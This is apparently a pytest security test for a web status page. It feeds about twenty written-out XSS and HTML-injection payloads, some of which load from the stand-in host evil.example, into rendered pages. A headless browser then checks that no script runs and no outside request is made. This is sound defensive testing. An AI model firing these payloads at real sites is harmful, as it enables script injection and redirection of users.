"""S8: what people put into tickets runs in no page, as a real browser sees it."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from typing import TYPE_CHECKING
from zoneinfo import ZoneInfo

import pytest

from reports.held import SHOWN, Failing, Holding
from reports.status import Source
from reports.status_page import status_page
from service.setup.access import Access
from sla_engine.units import MINUTE, SECOND, Instant, Millis
from tests.security.payloads import HTML, PLACED
from web.app import create_app
from web.guard import Guard
from web.server import Server
from web.status import status_pages

if TYPE_CHECKING:
    from playwright.sync_api import Page, Request

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
TOKEN = "fedcba98765432100123456789abcdef"
NOW = Instant(1_790_000_000_000)
LIVE = (
    "<img src=/x onerror=alert(1)>", "<svg/onload=alert(1)>", "'-alert(1)-'", "{{7*7}}{% raw %}",
    "<script src=//evil.example></script>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
    "<style>@import '//evil.example'</style>", "<base href=//evil.example>",
    "<math><mtext></form><form>", '" onmouseover=alert(1) x="', "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;//evil.example'>", "<object data=javascript:alert(1)>",
    "</textarea><script>alert(1)</script>", "<!--<img src=--><img src=x onerror=alert(1)//>",
    "\u2028<script>alert(1)</script>",
)  # fmt: skip
PAYLOADS = (*LIVE, *HTML, *PLACED)


def shown(some: list[str]) -> str:
    """The page with payloads in every text that comes from outside."""
    return status_page(
        [_source(one) for one in some],
        [Holding(one, "approval", one, NOW, by=one, plan=one) for one in some],
        [Failing(one, one, one, one, NOW, 1, Instant(NOW + SECOND), False) for one in some],
        now=NOW,
        zone=ZoneInfo("UTC"),
        policies=some[0],
        clocks=1,
        who=some[0],
    )


def _source(one: str) -> Source:
    limit = Millis(10 * MINUTE)
    return Source(one, NOW, NOW, one, 1, 2, "observe", 3, limit, absent=((one, NOW),))


class Office:
    """Shows one page of payloads after the other."""

    def __init__(self) -> None:
        self.pages: Iterator[list[str]] = iter(())
        self.given = 0

    def page(self, _: str) -> str:
        self.given += 1
        return shown(next(self.pages, ["nothing"]))

    def halt(self, _: str) -> None:
        raise AssertionError("nobody asked for it")


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("one", [*LIVE, *HTML])
def test_a_payload_is_text_in_the_page(one: str) -> None:
    harmless, payload = shown(["harmless"]), shown([one])
    assert payload.count("<") == harmless.count("<")


@pytest.fixture
def browser() -> Iterator[Page]:
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    with api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium.new_page()
        chromium.close()


def watch(browser: Page, home: str, troubles: list[str]) -> None:
    """Note whatever a page does beyond showing itself."""

    def asked(request: Request) -> None:
        if not request.url.startswith(home):
            troubles.append(request.url)

    browser.on("dialog", lambda one: troubles.append(f"dialog {one.message}"))
    browser.on("pageerror", lambda one: troubles.append(f"error {one}"))
    browser.on("console", lambda one: troubles.append(f"console {one.text}"))
    browser.on("request", asked)


def test_no_payload_runs_asks_or_violates_anything(browser: Page) -> None:
    office = Office()
    troubles: list[str] = []
    guard = Guard(Access(frozenset(("127.0.0.1",)), TOKEN.encode()))
    with Server(create_app([], [status_pages(office)], guard), "127.0.0.1", 0) as server:
        home = f"http://127.0.0.1:{server.port}/"
        browser.goto(home)
        browser.fill("#token", TOKEN)
        browser.click("button")
        browser.wait_for_selector("button.stop")
        watch(browser, home, troubles)
        parts = [list(PAYLOADS[n : n + SHOWN]) for n in range(0, len(PAYLOADS), SHOWN)]
        office.pages = iter(parts)
        for some in parts:
            browser.goto(home)
            assert browser.locator("tbody tr").count() == 3 * len(some)
            assert browser.locator("form").count() == 2
    assert troubles == []
    assert office.given == len(parts) + 1
